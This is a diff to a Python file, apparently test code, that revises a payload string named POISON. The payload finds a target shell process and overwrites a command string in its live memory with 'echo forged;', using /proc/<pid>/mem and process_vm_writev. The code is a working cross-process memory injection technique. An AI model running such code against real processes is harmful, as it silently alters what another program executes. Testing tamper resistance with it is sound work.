@@ -253,8 +253,14 @@ except OSError:
     pass
 """
 POISON = """
+import ctypes
 shell, own = open('shell').read().strip(), b'unset REPLY; $REPLY'
-with open(f'/proc/{shell}/maps') as maps, open(f'/proc/{shell}/mem', 'r+b', buffering=0) as memory:
+class Part(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
+new = ctypes.create_string_buffer(b'echo forged;'.ljust(len(own)), len(own))
+def write(place):
+    ours, theirs = Part(ctypes.addressof(new), len(own)), Part(place, len(own))
+    ctypes.CDLL(None).process_vm_writev(int(shell), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
+with open(f'/proc/{shell}/maps') as maps, open(f'/proc/{shell}/mem', 'rb', buffering=0) as memory:
     for line in maps:
         place, rights = line.split()[:2]
         if rights == 'rw-p':
@@ -264,8 +270,7 @@ with open(f'/proc/{shell}/maps') as maps, open(f'/proc/{shell}/mem', 'r+b', buff
                 data = memory.read(end - begin)
                 at = data.find(own)
                 while at >= 0:
-                    memory.seek(begin + at)
-                    memory.write(b'echo forged;'.ljust(len(own)))
+                    write(begin + at)
                     at = data.find(own, at + 1)
             except OSError:
                 pass
